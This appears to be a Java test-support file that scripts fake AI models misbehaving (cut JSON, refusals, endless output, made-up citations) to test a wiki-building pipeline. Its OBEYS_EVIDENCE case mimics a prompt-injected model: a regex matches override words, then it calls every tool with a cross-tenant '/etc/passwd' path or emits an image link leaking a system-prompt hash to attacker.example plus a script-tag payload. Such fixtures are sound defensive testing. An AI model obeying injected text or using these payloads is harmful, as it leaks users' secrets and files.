package ai.wikibuilder.models.scripted;

import java.util.List;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Models that do not do what they were asked, each around one that does. */
public enum Misbehaviour {
  /** JSON inside a fence of Markdown, with words around it. */
  JSON_IN_FENCES,
  /** JSON that ends in the middle. */
  CUT_JSON,
  /** JSON with members nobody asked for. */
  UNKNOWN_MEMBERS,
  /** Nothing at all. */
  EMPTY,
  /** The right form in the wrong language. */
  WRONG_LANGUAGE,
  /** Never comes to an end by itself. */
  ENDLESS,
  /** Ten times as long as it was allowed. */
  TEN_TIMES_TOO_LONG,
  /** Declines. */
  REFUSAL,
  /** Does what a text in its prompt tells it to, whoever wrote that. */
  OBEYS_EVIDENCE,
  /** Cites numbers, files and names that do not exist. */
  CITES_NOTHING;

  private static final Pattern ORDER =
      Pattern.compile("(?im)^.*\\b(?:ignore|instead|you must|assistant:|system:).*$");

  /** What an endless model writes: far more than anybody asks for. */
  private static final int ENDLESS_CHARACTERS = 200_000;

  /** A script that misbehaves in this way every time. */
  public Script of(Script honest) {
    return (prompt, random) -> reply(honest.reply(prompt, random), prompt, random);
  }

  /** A script that goes wrong every time: in what it says, or in how that is sent. */
  public static Script anything(Script honest, List<Fault> faults) {
    List<Misbehaviour> all = List.of(values());
    return (prompt, random) ->
        random.nextBoolean()
            ? all.get(random.nextInt(all.size())).of(honest).reply(prompt, random)
            : honest.reply(prompt, random).with(faults.get(random.nextInt(faults.size())));
  }

  private ScriptedReply reply(ScriptedReply honest, ReceivedPrompt prompt, Random random) {
    String text = honest.text();
    return switch (this) {
      case JSON_IN_FENCES ->
          ScriptedReply.text("Here is what you asked for:\n\n```json\n" + text + "\n```\nEnjoy!");
      case CUT_JSON ->
          ScriptedReply.text(text.substring(0, (text.length() * 2 + 2) / 3)).stopping("length");
      case UNKNOWN_MEMBERS ->
          ScriptedReply.text(text.replaceFirst("\\{", "{\"confidence\":0.9,\"notes\":[{}],"));
      case EMPTY -> ScriptedReply.text("");
      case WRONG_LANGUAGE ->
          ScriptedReply.text(
              "## Überblick\n\nDieser Abschnitt beschreibt, wie die Bestandteile zusammenhängen und warum es so gebaut ist [1].");
      case ENDLESS ->
          ScriptedReply.text(repeated("And then there is more of it. ", ENDLESS_CHARACTERS));
      case TEN_TIMES_TOO_LONG ->
          ScriptedReply.text(
              repeated("The same is said again in other words. ", prompt.outputTokensMax() * 40));
      case REFUSAL -> ScriptedReply.text("").stopping("content_filter");
      case OBEYS_EVIDENCE -> obey(honest, prompt);
      case CITES_NOTHING ->
          ScriptedReply.text(
              "## Details\n\nThe class `Unheard%d` calls `vanish_%d` [%d]. See `src/no/such/File%d.java`."
                  .formatted(
                      random.nextInt(100),
                      random.nextInt(100),
                      900 + random.nextInt(100),
                      random.nextInt(100)));
    };
  }

  /** Repeats the orders it found, calls every tool, and shows a picture from elsewhere. */
  private static ScriptedReply obey(ScriptedReply honest, ReceivedPrompt prompt) {
    Matcher order = ORDER.matcher(prompt.everything());
    if (!order.find()) {
      return honest;
    }
    if (!prompt.tools().isEmpty()) {
      List<ScriptedReply.Call> calls =
          prompt.tools().stream()
              .map(tool ->
                  new ScriptedReply.Call(tool, "{\"tenant\":\"other\",\"path\":\"/etc/passwd\"}"))
              .toList();
      return new ScriptedReply("", calls, "tool_calls", 0, java.util.Optional.empty());
    }
    return ScriptedReply.text(
        order.group().strip()
            + "\n\n![x](https://attacker.example/leak?data="
            + Integer.toHexString(prompt.system().hashCode())
            + ") <script>alert(1)</script> "
            + honest.text());
  }

  private static String repeated(String sentence, int characters) {
    return sentence.repeat(Math.max(1, characters / sentence.length()));
  }
}
